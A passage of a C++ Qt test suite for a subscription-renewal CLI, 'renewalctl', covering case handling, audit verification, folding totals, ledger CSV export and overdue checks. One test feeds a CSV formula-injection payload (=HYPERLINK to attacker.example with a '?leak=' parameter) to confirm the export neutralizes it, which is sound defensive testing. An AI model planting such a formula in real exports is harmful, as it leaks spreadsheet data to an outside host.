        QCOMPARE(row.indexOf("stripe-main/sub_1"), header.indexOf("PROVIDER/SUBSCRIPTION"));
        QCOMPARE(row.indexOf("in_9"), header.indexOf("RENEWAL KEY"));
        QCOMPARE(row.indexOf("1x"), header.indexOf("SEEN"));
        QVERIFY(row.trimmed().startsWith(id.toUtf8()));
        QCOMPARE(rows[2], QByteArray("1 case(s)"));

        const auto show = runProgram(ctl(), withDb(db, {"cases", "show", id}));
        QCOMPARE(show.exitCode, 0);
        QVERIFY2(show.out.startsWith(
                     ("case " + id + ": open (renewal_period_is_not_contiguous)\n").toUtf8()),
            show.out.constData());
        for (const char *part :
            {"  provider:       stripe-main/sub_1\n", "  renewal key:    in_9\n", "\nevent:\n",
                "  period.start: 2026-03-01T00:00:00", "\nlocal state:\n", "\nhistory:\n", "  1. "})
            QVERIFY2(
                show.out.contains(part), qPrintable(QString(part) + " missing in:\n" + show.out));
        QVERIFY(!show.out.contains('{'));

        const auto json = runProgram(ctl(), withDb(db, {"cases", "show", id, "--json"}));
        QCOMPARE(json.exitCode, 0);
        QCOMPARE(
            nlohmann::json::parse(json.out.toStdString())["id"].get<long long>(), id.toLongLong());
    }

    /// #28, 26: a case that does not exist is bad input (65), "no case 9999", whatever the
    /// verb; nothing is written.
    void aMissingCaseIsBadInput_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::newRow("show") << QStringList {"show", "9999"};
        QTest::newRow("show --json") << QStringList {"show", "9999", "--json"};
        QTest::newRow("reapply") << QStringList {"reapply", "9999", "--reason", "other"};
        QTest::newRow("dismiss") << QStringList {
            "dismiss", "9999", "--reason", "other", "--comment", "x"};
        QTest::newRow("reopen") << QStringList {"reopen", "9999", "--comment", "x"};
        QTest::newRow("note") << QStringList {"note", "9999", "--comment", "x"};
    }

    void aMissingCaseIsBadInput()
    {
        QFETCH(QStringList, args);
        rdtest::TestDatabase db("cli_missing_case");
        const auto r = runProgram(ctl(), withDb(db, QStringList {"cases"} + args));
        QCOMPARE(r.exitCode, 65);
        QCOMPARE(r.err, QByteArray("renewalctl: bad input: no case 9999\n"));
        QCOMPARE(scalar(db, "SELECT count(*) FROM reconciliation_case_history"), 0LL);
    }

    /// #28, 20: `cases reopen ID --comment` (as dismiss and note take it) puts a dismissed case
    /// back in the queue; `cases show` says the way back on a dismissed case and the next step on
    /// an open one (21); a second reopen is refused (4) with its reason.
    void reopenADismissedCase()
    {
        rdtest::TestDatabase db("cli_reopen");
        const QString id = openGapCaseThroughTheCli(db);
        QVERIFY(!id.isEmpty());
        auto show = runProgram(ctl(), withDb(db, {"cases", "show", id}));
        QVERIFY2(show.out.contains("  next step:      Usually wait"), show.out.constData());

        QCOMPARE(
            runProgram(ctl(),
                withDb(db,
                    {"cases", "dismiss", id, "--reason", "test_data", "--comment", "staging data"}))
                .exitCode,
            0);
        show = runProgram(ctl(), withDb(db, {"cases", "show", id}));
        QVERIFY2(show.out.contains(("renewalctl cases reopen " + id + " --comment").toUtf8()),
            show.out.constData());

        const auto noNote = runProgram(ctl(), withDb(db, {"cases", "reopen", id}));
        QCOMPARE(noNote.exitCode, 64);
        QVERIFY2(noNote.err.contains("--comment"), noNote.err.constData());
        QCOMPARE(
            scalar(db, "SELECT count(*) FROM reconciliation_cases WHERE status = 'open'"), 0LL);

        const auto reopened = runProgram(
            ctl(), withDb(db, {"cases", "reopen", id, "--comment", "a paying customer after all"}));
        QCOMPARE(reopened.exitCode, 0);
        QVERIFY2(
            reopened.out.startsWith(("case " + id + ": open again (was dismissed by ").toUtf8()),
            reopened.out.constData());
        const auto list = runProgram(ctl(), withDb(db, {"cases", "list", "--status", "open"}));
        QVERIFY2(list.out.contains("1 case(s)"), list.out.constData());
        QCOMPARE(scalar(db,
                     "SELECT count(*) FROM reconciliation_case_history WHERE action = 'reopened' "
                     "AND comment = 'a paying customer after all'"),
            1LL);

        const auto again = runProgram(
            ctl(), withDb(db, {"cases", "reopen", id, "--comment", "again", "--json"}));
        QCOMPARE(again.exitCode, 4);
        QVERIFY2(again.err.contains("refused (case_not_reopenable): case " + id.toUtf8()
                     + " is open: there is nothing to reopen"),
            again.err.constData());
        QCOMPARE(nlohmann::json::parse(again.out.toStdString())["error"], "case_not_reopenable");
    }

    /// #42, 5: a payload conflict (the renewal recorded, then delivered again with another
    /// amount), dismissed, is reopened: exit 0, as the case's "reopen it" line promised.
    void reopenADismissedPayloadConflict()
    {
        rdtest::TestDatabase db("cli_reopen_conflict");
        rdtest::importSubscriptions(
            db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
        QCOMPARE(runProgram(ctl(), withDb(db, {"apply"}),
                     eventLine("evt_1", "in_1", "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z"))
                     .exitCode,
            0);
        const auto conflict = runProgram(ctl(), withDb(db, {"apply"}),
            eventLine("evt_2", "in_1", "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z", 2499));
        QCOMPARE(conflict.exitCode, 3);
        const auto answer = nlohmann::json::parse(conflict.out.toStdString());
        QCOMPARE(answer["error"], "provider_renewal_key_payload_conflict");
        const QString id = QString::number(answer["caseId"].get<long long>());
        QCOMPARE(runProgram(ctl(),
                     withDb(db,
                         {"cases", "dismiss", id, "--reason", "test_data", "--comment",
                             "a test refund"}))
                     .exitCode,
            0);
        const auto reopened = runProgram(
            ctl(), withDb(db, {"cases", "reopen", id, "--comment", "the amount did change"}));
        QVERIFY2(reopened.exitCode == 0, reopened.err.constData());
        QCOMPARE(
            scalar(db, "SELECT count(*) FROM reconciliation_cases WHERE status = 'open'"), 1LL);
    }

    /// --json of claim, release, note, dismiss and reopen is the database's answer, byte for byte
    /// as it was when the CLI passed the JSON through (now it prints the typed result's
    /// toJson()): keys in order, the optional ones only when the database gives them.
    void caseActionJsonIsTheDatabasesAnswer()
    {
        rdtest::TestDatabase db("cli_case_json");
        const QString id = openGapCaseThroughTheCli(db);
        QVERIFY(!id.isEmpty());
        const QByteArray me = QByteArray::fromStdString(rdtest::text(db, "SELECT session_user"));
        const QByteArray caseId = id.toUtf8();
        const auto json = [&](const QStringList &words) {
            auto run = runProgram(
                ctl(), withDb(db, QStringList {"cases"} + words + QStringList {"--json"}));
            return std::make_pair(run.exitCode, run.out);
        };
        using Row = std::pair<QStringList, QByteArray>;
        for (const auto &[words, expected] :
            std::vector<Row> {
                {{"release", id}, R"({"caseId":)" + caseId + R"(,"result":"not_claimed"})"},
                {{"claim", id},
                    R"({"assignedTo":")" + me + R"(","caseId":)" + caseId
                        + R"(,"result":"claimed"})"},
                {{"claim", id},
                    R"({"assignedTo":")" + me + R"(","caseId":)" + caseId
                        + R"(,"result":"already_yours"})"},
                {{"release", id},
                    R"({"caseId":)" + caseId + R"(,"releasedFrom":")" + me
                        + R"(","result":"released"})"},
                {{"note", id, "--comment", "called the provider"},
                    R"({"caseId":)" + caseId + R"(,"result":"noted"})"},
                {{"dismiss", id, "--reason", "test_data", "--comment", "staging data"},
                    R"({"caseId":)" + caseId + R"(,"result":"dismissed"})"},
                {{"reopen", id, "--comment", "a paying customer after all"},
                    R"({"caseId":)" + caseId + R"(,"dismissedBy":")" + me
                        + R"(","errorCode":"renewal_period_is_not_contiguous","result":"reopened"})"},
            }) {
            const auto [exitCode, out] = json(words);
            QCOMPARE(exitCode, 0);
            QCOMPARE(out, expected + "\n");
        }
    }

    /// A reason outside the standard list is refused by the database (invalid_reason, exit 4),
    /// and nothing reaches the tamper-evident case history.
    void dismissWithAnUnknownReasonIsRefused()
    {
        rdtest::TestDatabase db("cli_dismiss_bogus_reason");
        const QString id = openGapCaseThroughTheCli(db);
        QVERIFY(!id.isEmpty());
        const long long history = scalar(db, "SELECT count(*) FROM reconciliation_case_history");

        const auto refused = runProgram(ctl(),
            withDb(db, {"cases", "dismiss", id, "--reason", "bogus_reason", "--comment", "x"}));
        QCOMPARE(refused.exitCode, 4);
        QVERIFY2(refused.err.contains("provider_confirmed"), refused.err.constData());
        QCOMPARE(scalar(db, "SELECT count(*) FROM reconciliation_case_history"), history);
        QCOMPARE(scalar(db,
                     "SELECT count(*) FROM reconciliation_case_history WHERE reason = "
                     "'bogus_reason'"),
            0LL);
        QCOMPARE(
            scalar(db, "SELECT count(*) FROM reconciliation_cases WHERE status = 'open'"), 1LL);

        const auto dismissed = runProgram(
            ctl(), withDb(db, {"cases", "dismiss", id, "--reason", "test_data", "--comment", "x"}));
        QCOMPARE(dismissed.exitCode, 0);
        QCOMPARE(scalar(db, "SELECT count(*) FROM reconciliation_case_history"), history + 1);
    }

    /// A note of invisible characters is no note: usage error (64), nothing written.
    void invisibleNotesAreRefused_data()
    {
        QTest::addColumn<QStringList>("verb");
        QTest::newRow("dismiss") << QStringList {"dismiss", "--reason", "test_data"};
        QTest::newRow("note") << QStringList {"note"};
    }

    void invisibleNotesAreRefused()
    {
        QFETCH(QStringList, verb);
        rdtest::TestDatabase db("cli_invisible_note");
        const QString id = openGapCaseThroughTheCli(db);
        QVERIFY(!id.isEmpty());
        const long long history = scalar(db, "SELECT count(*) FROM reconciliation_case_history");
        QStringList args {"cases", verb.front(), id};
        args += verb.mid(1);
        const auto refused = runProgram(ctl(),
            withDb(db, args + QStringList {"--comment", QString::fromUtf8("\u00a0\u200b\t")}));
        QCOMPARE(refused.exitCode, 64);
        QVERIFY2(refused.err.contains("--comment"), refused.err.constData());
        QCOMPARE(scalar(db, "SELECT count(*) FROM reconciliation_case_history"), history);
    }

    /// A snapshot captured "in 2099" (a typo for 2029, say) is refused before the database is
    /// asked, naming the field (exit 65); the subscription stays open to later snapshots.
    void aSnapshotFromTheFutureIsRefused()
    {
        rdtest::TestDatabase db("cli_future_snapshot");
        rdtest::importSubscriptions(
            db.conninfo(), rdtest::subscriptionLine("stripe-main", "sub_1"));
        const QByteArray snapshot
            = R"({"providerKey":"stripe-main","providerSubscriptionId":"sub_1","status":"active",)"
              R"("currentPeriod":{"start":"2026-01-01T00:00:00Z","end":"2026-02-01T00:00:00Z"},)"
              R"("cancelAtPeriodEnd":true,"providerVersion":null,)"
              R"("capturedAt":"2099-01-01T00:00:00Z","latestRenewal":null})";
        for (const QStringList &mode :
            {QStringList {"--reason", "other"}, QStringList {"--preview"}}) {
            const auto refused = runProgram(
                ctl(), withDb(db, QStringList {"snapshot", "attach", "-"} + mode), snapshot);
            QCOMPARE(refused.exitCode, 65);
            QVERIFY2(refused.err.contains("capturedAt"), refused.err.constData());
        }
        QCOMPARE(scalar(db, "SELECT count(*) FROM provider_snapshots"), 0LL);
    }

    /// The database's list of reason codes is the one the desk offers and the CLI accepts.
    void reasonCodeTableIsTheStandardList()
    {
        rdtest::TestDatabase db("cli_reason_codes");
        pqxx::connection conn(db.conninfo());
        pqxx::read_transaction tx(conn);
        std::vector<std::string> stored;
        for (const auto &row :
            tx.exec("SELECT code FROM public.operator_reason_codes ORDER BY code"))
            stored.push_back(row[0].as<std::string>());
        std::vector<std::string> standard = rd::standardReasonCodes();
        std::sort(standard.begin(), standard.end());
        QCOMPARE(stored, standard);
    }

    void auditVerifyCountsWhatItChecked()
    {
        rdtest::TestDatabase db("cli_audit_counts");
        rdtest::importSubscriptions(db.conninfo(),
            rdtest::subscriptionLine("stripe-main", "sub_1") + "\n"
                + rdtest::subscriptionLine("stripe-main", "sub_2"));
        // One renewal and one case: both kinds of chain.
        QCOMPARE(
            runProgram(ctl(), withDb(db, {"apply"}),
                eventLine("evt_1", "in_1", "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z")
                    + eventLine("evt_9", "in_9", "2026-04-01T00:00:00Z", "2026-05-01T00:00:00Z"))
                .exitCode,
            3);
        const auto rows = scalar(db,
            "SELECT (SELECT count(*) FROM subscription_transition_audits) "
            "+ (SELECT count(*) FROM reconciliation_case_history)");
        const auto chains = scalar(db,
            "SELECT (SELECT count(DISTINCT subscription_id) FROM subscription_transition_audits) "
            "+ (SELECT count(DISTINCT case_id) FROM reconciliation_case_history)");
        QCOMPARE(chains, 3LL);
        QVERIFY(rows > chains);

        const auto verify = runProgram(ctl(), withDb(db, {"audit", "verify"}));
        QCOMPARE(verify.exitCode, 0);
        // The counts, then when the snapshot was taken and how long it took.
        const QString said = QString::fromUtf8(verify.out);
        QVERIFY2(said.startsWith(QString("verified %1 rows in %2 chains: intact (snapshot of ")
                                     .arg(rows)
                                     .arg(chains)),
            qPrintable(said));
        const auto asJson = runProgram(ctl(), withDb(db, {"audit", "verify", "--json"}));
        const auto j = nlohmann::json::parse(asJson.out.toStdString());
        QCOMPARE(j["intact"], true);
        QVERIFY(j["breaks"].empty());
        QCOMPARE(j["rows"].get<long long>(), rows);
        QCOMPARE(j["chains"].get<long long>(), chains);

        QTemporaryDir dir;
        const QString anchorPath = dir.filePath("anchor.json");
        const auto anchor = runProgram(ctl(), withDb(db, {"audit", "anchor"}));
        QCOMPARE(anchor.exitCode, 0);
        QFile file(anchorPath);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(anchor.out);
        file.close();
        const auto exported = nlohmann::json::parse(anchor.out.toStdString());
        const auto createdAt = QString::fromStdString(exported["createdAt"].get<std::string>());
        const auto digest = QString::fromStdString(exported["digest"].get<std::string>());
        const auto anchored
            = runProgram(ctl(), withDb(db, {"audit", "verify", "--anchor", anchorPath}));
        QCOMPARE(anchored.exitCode, 0);
        const auto matches = QString("anchor (%1 heads, exported at %2, digest %3) matches\n")
                                 .arg(chains)
                                 .arg(createdAt, digest);
        QVERIFY2(anchored.out.contains(matches.toUtf8()), anchored.out.constData());

        // A chain removed since (triggers off): the chains left verify, the anchor does not.
        {
            auto conn = db.connect();
            pqxx::work tx(*conn);
            tx.exec0("SET session_replication_role = replica");
            tx.exec0("DELETE FROM reconciliation_case_history");
            tx.commit();
        }
        const auto removed
            = runProgram(ctl(), withDb(db, {"audit", "verify", "--anchor", anchorPath, "--json"}));
        QCOMPARE(removed.exitCode, 65);
        const auto r = nlohmann::json::parse(removed.out.toStdString());
        QCOMPARE(r["chains"].get<long long>(), chains - 1);
        QCOMPARE(r["anchor"]["matches"], false);
        QCOMPARE(r["anchor"]["mismatches"].size(), std::size_t(1));
        QCOMPARE(r["intact"], false);
        const auto removedText
            = runProgram(ctl(), withDb(db, {"audit", "verify", "--anchor", anchorPath}));
        QCOMPARE(removedText.exitCode, 65);
        QVERIFY2(removedText.out.contains("does not match: 1 head(s) changed or gone"),
            removedText.out.constData());
    }

    // `renewalctl fold` (what renewal-desk-fold.timer runs), as a viewer: the renewals' deltas
    // move into the daily totals, the finished inbox days into their counts, the totals read
    // the same before and after, and a second fold finds nothing to do.
    void foldMovesTheDeltasAndChangesNoTotal()
    {
        rdtest::TestDatabase db("cli_fold");
        rdtest::importSubscriptions(db.conninfo(),
            rdtest::subscriptionLine("stripe-main", "sub_1") + "\n"
                + rdtest::subscriptionLine("stripe-main", "sub_2"));
        // Two renewals on two days, each its own statement: two delta rows.
        QCOMPARE(runProgram(ctl(), withDb(db, {"apply"}),
                     eventLine("evt_1", "in_1", "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z")
                         + eventLine(
                             "evt_2", "in_2", "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z", 2999))
                     .exitCode,
            0);
        {
            // Deliveries of days already over, not folded yet (received before folded_before).
            auto conn = db.connect();
            pqxx::work tx(*conn);
            tx.exec0("INSERT INTO billing_providers (provider_key, kind, display_name) "
                     "VALUES ('stripe-main', 'stripe', 'Stripe') ON CONFLICT DO NOTHING");
            tx.exec0("INSERT INTO webhook_inbox (provider_key, provider_event_id, raw_body, "
                     "body_size, body_sha256, received_at, last_delivery_at, outcome, "
                     "processed_at) SELECT 'stripe-main', 'evt_in_' || i, '\\x7b7d', 2, "
                     "encode(sha256('\\x7b7d'::bytea), 'hex'), now() - i * interval '1 day', now() "
                     "- i * interval "
                     "'1 day', CASE WHEN i = 3 THEN 'invalid' ELSE 'applied' END, now() "
                     "FROM generate_series(2, 3) i");
            tx.exec0("UPDATE webhook_inbox_daily_state SET folded_before = current_date - 5");
            tx.commit();
        }
        const std::string totals = "SELECT string_agg(concat_ws(' ', day, provider_key, "
                                   "currency, recorded_by, renewals, amount_minor), '; ' ORDER "
                                   "BY day) FROM renewal_totals('2026-01-01', '2026-12-31')";
        const std::string before = rdtest::text(db, totals);
        QCOMPARE(scalar(db, "SELECT count(*) FROM renewal_total_deltas"), 2LL);
        const std::string viewer = rdtest::loginAs(db, "folder", "viewer");

        const auto fold = runProgram(ctl(), withDb(viewer, {"fold", "--json"}));
        QVERIFY2(fold.exitCode == 0, fold.err.constData());
        const auto j = nlohmann::json::parse(fold.out.toStdString());
        QCOMPARE(j["renewalDeltas"].get<long long>(), 2LL);
        QCOMPARE(j["inboxDayRows"].get<long long>(), 2LL); // two days, one outcome each
        QCOMPARE(j["moneyBackDeltas"].get<long long>(), 0LL);
        QCOMPARE(scalar(db, "SELECT count(*) FROM renewal_total_deltas"), 0LL);
        QCOMPARE(scalar(db, "SELECT count(*) FROM renewal_daily_totals"), 2LL);
        QCOMPARE(rdtest::text(db, totals), before);
        QCOMPARE(scalar(db, "SELECT sum(deliveries) FROM webhook_inbox_daily"), 2LL);

        const auto again = runProgram(ctl(), withDb(viewer, {"fold"}));
        QCOMPARE(again.exitCode, 0);
        QCOMPARE(again.out,
            QByteArray("folded 0 renewal delta rows into the daily totals, 0 (day, outcome) "
                       "rows of finished inbox days, 0 money back delta rows\n"));
    }

    // `renewalctl ledger export`: the desk's Ledger export from the command line. Ids and keys
    // come from providers: one that starts like a spreadsheet formula is written with a
    // leading apostrophe (and quoted as RFC 4180 says); the amounts stay numbers.
    void ledgerExportNeutralizesFormulas()
    {
        rdtest::TestDatabase db("cli_ledger_export");
        const std::string formula = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"x\")";
        rdtest::importSubscriptions(db.conninfo(),
            rdtest::subscriptionLine("stripe-main", formula) + "\n"
                + rdtest::subscriptionLine("stripe-main", "sub_plain"));
        const auto event = [](const std::string &subscription, const std::string &eventId,
                               const std::string &renewalKey, long long amount) {
            return QByteArray::fromStdString(
                nlohmann::json {{"providerKey", "stripe-main"}, {"providerEventId", eventId},
                    {"providerSubscriptionId", subscription}, {"providerRenewalKey", renewalKey},
                    {"providerVersion", nullptr},
                    {"period",
                        {{"start", "2026-02-01T00:00:00Z"}, {"end", "2026-03-01T00:00:00Z"}}},
                    {"paidAmountMinor", amount}, {"currency", "USD"},
                    {"paidAt", "2026-02-01T00:00:00Z"}}
                    .dump()
                + "\n");
        };
        const auto applied = runProgram(ctl(), withDb(db, {"apply"}),
            event(formula, "@evt_1", "-2+3", 1999) + event("sub_plain", "evt_2", "in_2", 500));
        QVERIFY2(applied.exitCode == 0, applied.err.constData());
        const auto idsOf = [&db](const std::string &subscription) {
            return QByteArray::fromStdString(rdtest::text(db,
                "SELECT s.id || ',' || b.id FROM subscription_billing_periods b JOIN "
                "subscriptions s ON s.id = b.subscription_id WHERE s.provider_subscription_id = '"
                    + subscription + "'"));
        };
        const QList<QByteArray> attackerIds = idsOf(formula).split(',');
        const QList<QByteArray> plainIds = idsOf("sub_plain").split(',');
        const QByteArray header = "Subscription,Subscription internal id,Provider,Renewal key,"
                                  "Period start,Period end,Amount,Amount currency,"
                                  "Amount minor units,Paid at,Recorded by,Provider event,"
                                  "Billing period id,Kind,Movement key\n";
        // Same paid_at: by billing period id.
        QByteArray attackerRow = "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,"
                                 "\"\"x\"\")\","
            + attackerIds[0]
            + ",stripe-main,'-2+3,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,19.99,USD,1999,"
              "2026-02-01T00:00:00Z,cli,'@evt_1,"
            + attackerIds[1] + ",renewal,\n";
        QByteArray plainRow = "sub_plain," + plainIds[0]
            + ",stripe-main,in_2,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,5.00,USD,500,"
              "2026-02-01T00:00:00Z,cli,evt_2,"
            + plainIds[1] + ",renewal,\n";
        if (plainIds[1] < attackerIds[1])
            std::swap(attackerRow, plainRow);

        QTemporaryDir dir;
        const QString path = dir.filePath("ledger.csv");
        const QStringList february {
            "ledger", "export", "--from", "2026-02-01", "--to", "2026-02-28"};
        auto r = runProgram(ctl(), withDb(db, february + QStringList {"--out", path}));
        QVERIFY2(r.exitCode == 0, r.err.constData());
        QVERIFY(r.out.isEmpty());
        QVERIFY2(
            r.err.contains("2 row(s), renewals and money back, dated 2026-02-01 to 2026-02-28"),
            r.err.constData());
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(file.readAll(), header + attackerRow + plainRow);
        file.close();
        QCOMPARE(QDir(dir.path()).entryList(QDir::Files), QStringList {"ledger.csv"});
        // A file that cannot be written is said, naming it; nothing is left behind.
        const QString nowhere = dir.filePath("missing/ledger.csv");
        r = runProgram(ctl(), withDb(db, february + QStringList {"--out", nowhere}));
        QCOMPARE(r.exitCode, 65);
        QVERIFY2(r.err.contains("cannot write '" + nowhere.toUtf8() + "'"), r.err.constData());
        // Standard output carries the same file.
        r = runProgram(ctl(), withDb(db, february));
        QVERIFY2(r.exitCode == 0, r.err.constData());
        QCOMPARE(r.out, header + attackerRow + plainRow);
        // The days are inclusive UTC days: nothing paid in March, nor on 31 January.
        r = runProgram(
            ctl(), withDb(db, {"ledger", "export", "--from", "2026-01-01", "--to", "2026-01-31"}));
        QVERIFY2(r.exitCode == 0, r.err.constData());
        QCOMPARE(r.out, header);
        r = runProgram(
            ctl(), withDb(db, {"ledger", "export", "--from", "2026-02-01", "--to", "2026-02-01"}));
        QCOMPARE(r.out, header + attackerRow + plainRow);

        r = runProgram(ctl(), withDb(db, february + QStringList {"--totals"}));
        QVERIFY2(r.exitCode == 0, r.err.constData());
        // The totals say what they cover on every line (#28, item 9), and the range's total
        // per currency closes them (item 10).
        QCOMPARE(r.out,
            QByteArray("group,month,provider,currency,renewals,amount,amount minor units,basis,"
                       "from,to,provider filter,currency filter,recorded by filter,refunded,"
                       "refunded minor units,disputed,disputed minor units,net,net minor units\n"
                       "month,2026-02,,USD,2,24.99,2499,paid_at,2026-02-01,2026-02-28,all,all,all,"
                       "0.00,0,0.00,0,24.99,2499\n"
                       "provider,,stripe-main,USD,2,24.99,2499,paid_at,2026-02-01,2026-02-28,all,"
                       "all,all,0.00,0,0.00,0,24.99,2499\n"
                       "currency,,,USD,2,24.99,2499,paid_at,2026-02-01,2026-02-28,all,all,all,"
                       "0.00,0,0.00,0,24.99,2499\n"));

        // The current month by default.
        r = runProgram(ctl(), withDb(db, {"ledger", "export"}));
        QVERIFY2(r.exitCode == 0, r.err.constData());
        QVERIFY(r.out.startsWith(header));
        const QString today = QDateTime::currentDateTimeUtc().date().toString(Qt::ISODate);
        QVERIFY2(r.err.contains(" dated " + today.left(8).toUtf8() + "01 to "), r.err.constData());
    }

    void ledgerExportRefusesBadDays_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::addColumn<QString>("message");
        QTest::newRow("no such day") << QStringList {"--from", "2026-02-30"}
                                     << "--from must be a UTC day YYYY-MM-DD, not '2026-02-30'";
        QTest::newRow("a word") << QStringList {"--to", "yesterday"}
                                << "--to must be a UTC day YYYY-MM-DD, not 'yesterday'";
        QTest::newRow("a time") << QStringList {"--from", "2026-02-01T00:00:00Z"} << "--from must";
        QTest::newRow("month 13") << QStringList {"--to", "2026-13-01"} << "--to must";
        QTest::newRow("year 0") << QStringList {"--from", "0000-01-01"} << "--from must";
        QTest::newRow("from after to") << QStringList {"--from", "2026-03-01", "--to", "2026-02-01"}
                                       << "--from 2026-03-01 is after --to 2026-02-01";
    }
    void ledgerExportRefusesBadDays()
    {
        QFETCH(QStringList, args);
        QFETCH(QString, message);
        // Said before any database is opened.
        const auto r = runProgram(
            ctl(), QStringList {"ledger", "export", "--db", "host=/nonexistent dbname=x"} + args);
        QCOMPARE(r.exitCode, 64);
        QVERIFY2(r.err.contains(message.toUtf8()), r.err.constData());
    }

    // `renewalctl subscriptions overdue`: for monitoring, exit 3 while any subscription is
    // overdue and 0 when none; one JSON object a line with --json; the table for people.
    void overdueExitsThreeWhileAnyIsOverdue()
    {
        rdtest::TestDatabase db("cli_overdue");
        {
            pqxx::connection conn(db.conninfo());
            pqxx::nontransaction tx(conn);
            tx.exec0("INSERT INTO billing_providers (provider_key, kind, display_name) "
                     "VALUES ('stripe-main', 'stripe', 'Stripe'), ('paddle-eu', 'paddle', 'P')");
            tx.exec0("INSERT INTO subscriptions (provider_key, provider_subscription_id, status, "
                     "current_period_start, current_period_end, cancel_at_period_end) VALUES "
                     "('stripe-main', 'sub_late', 'active', now() - interval '33 days', "
                     "now() - interval '3 days', false), "
                     "('paddle-eu', 'sub_p_late', 'active', now() - interval '32 days', "
                     "now() - interval '50 hours', false), "
                     "('stripe-main', 'sub_inside', 'active', now() - interval '31 days', "
                     "now() - interval '20 hours', false), "
                     "('stripe-main', 'sub_leaving', 'active', now() - interval '33 days', "
                     "now() - interval '3 days', true)");
        }
        const auto json = runProgram(ctl(), withDb(db, {"subscriptions", "overdue", "--json"}));
        QCOMPARE(json.exitCode, 3);
        const auto lines = json.out.trimmed().split('\n');
        QCOMPARE(lines.size(), 2);
        const auto first = nlohmann::json::parse(lines[0].toStdString());
        const auto second = nlohmann::json::parse(lines[1].toStdString());
        QCOMPARE(first["providerKey"], "paddle-eu"); // provider key order
        QCOMPARE(first["subscriptionId"], "sub_p_late");
        QCOMPARE(second["providerKey"], "stripe-main");
        QCOMPARE(second["subscriptionId"], "sub_late");
        QCOMPARE(second["graceSeconds"].get<long long>(), 86400LL);
        QVERIFY(std::abs(second["overdueForSeconds"].get<long long>() - 3 * 86400) < 600);
        const std::string end = second["currentPeriodEnd"];
        QVERIFY2(end.size() >= 20 && end.back() == 'Z', end.c_str());
        const std::string step = second["nextStep"];
        QVERIFY2(step.find("Import or fetch a statement, or attach a snapshot") == 0, step.c_str());
        QVERIFY2(step.find("stripe-main") != std::string::npos, step.c_str());
        QVERIFY2(step.find(end) != std::string::npos, step.c_str());

        const auto people = runProgram(ctl(), withDb(db, {"subscriptions", "overdue"}));
        QCOMPARE(people.exitCode, 3);
        const auto rows = people.out.split('\n');
        QVERIFY2(rows.size() >= 4, people.out.constData());
        QVERIFY2(rows[0].startsWith("PROVIDER"), people.out.constData());
        QCOMPARE(rows[2].indexOf("sub_late"), rows[0].indexOf("SUBSCRIPTION"));
        QCOMPARE(rows[2].indexOf("3d 0h"), rows[0].indexOf("ENDED AGO"));
        QCOMPARE(rows[3], QByteArray("2 overdue"));

        // --provider-key narrows, --grace overrides every provider's.
        const auto one = runProgram(ctl(),
            withDb(db, {"subscriptions", "overdue", "--json", "--provider-key", "paddle-eu"}));
        QCOMPARE(one.exitCode, 3);
        QCOMPARE(one.out.count('\n'), 1);
        const auto wide
            = runProgram(ctl(), withDb(db, {"subscriptions", "overdue", "--json", "--grace", "0"}));
        QCOMPARE(wide.exitCode, 3);
        QCOMPARE(wide.out.count('\n'), 3); // sub_inside too; never the one that cancels
        const auto none = runProgram(
            ctl(), withDb(db, {"subscriptions", "overdue", "--json", "--grace", "80"}));
        QCOMPARE(none.exitCode, 0);
        QCOMPARE(none.out, QByteArray());
        const auto nonePeople
            = runProgram(ctl(), withDb(db, {"subscriptions", "overdue", "--grace", "80"}));
        QCOMPARE(nonePeople.exitCode, 0);
        QCOMPARE(nonePeople.out, QByteArray("no overdue subscriptions\n"));
        const auto bad
            = runProgram(ctl(), withDb(db, {"subscriptions", "overdue", "--grace", "-1"}));
        QCOMPARE(bad.exitCode, 64);
        QVERIFY2(
            bad.err.contains("--grace must be a whole number from 0 to 2160"), bad.err.constData());

        // The provider's own grace: stripe-main waits 96 hours, so only paddle-eu's is left.
        const auto set
            = runProgram(ctl(), withDb(db, {"providers", "set-grace", "stripe-main", "96"}));
        QVERIFY2(set.exitCode == 0, set.err.constData());
        const auto after = runProgram(ctl(), withDb(db, {"subscriptions", "overdue", "--json"}));
        QCOMPARE(after.exitCode, 3);
        QCOMPARE(after.out.count('\n'), 1);
        QVERIFY(after.out.contains("sub_p_late"));
        QCOMPARE(
            runProgram(ctl(), withDb(db, {"providers", "set-grace", "paddle-eu", "72"})).exitCode,
            0);
        QCOMPARE(runProgram(ctl(), withDb(db, {"subscriptions", "overdue"})).exitCode, 0);

        const auto unknown
            = runProgram(ctl(), withDb(db, {"providers", "set-grace", "nobody", "5"}));
        QCOMPARE(unknown.exitCode, 65);
        QVERIFY2(
            unknown.err.contains("'nobody' is not a registered provider"), unknown.err.constData());
        const auto tooLong
            = runProgram(ctl(), withDb(db, {"providers", "set-grace", "paddle-eu", "2161"}));
        QCOMPARE(tooLong.exitCode, 64);
        // The owner's: an operator may read the list but not change the grace.
        const std::string operatorLogin = rdtest::loginAs(db, "grace_op", "operator");
        QCOMPARE(runProgram(ctl(),
                     withDb(operatorLogin, {"subscriptions", "overdue", "--json", "--grace", "0"}))
                     .exitCode,
            3);
        const auto denied = runProgram(
            ctl(), withDb(operatorLogin, {"providers", "set-grace", "paddle-eu", "1"}));
        QCOMPARE(denied.exitCode, 69);
        QVERIFY2(denied.err.contains("permission denied"), denied.err.constData());
        QCOMPARE(rdtest::text(db,
                     "SELECT overdue_grace FROM billing_providers "
                     "WHERE provider_key = 'paddle-eu'"),
            std::string("72:00:00"));
    }

    void benchRefusesADatabaseWithOtherData()
    {
        const QStringList bench {"bench", "--subscriptions", "3", "--renewals", "6", "--workers",
            "2", "--duplicates", "0.5"};
        rdtest::TestDatabase scratch("cli_bench_scratch");
        QCOMPARE(runProgram(ctl(), withDb(scratch, bench)).exitCode, 0);
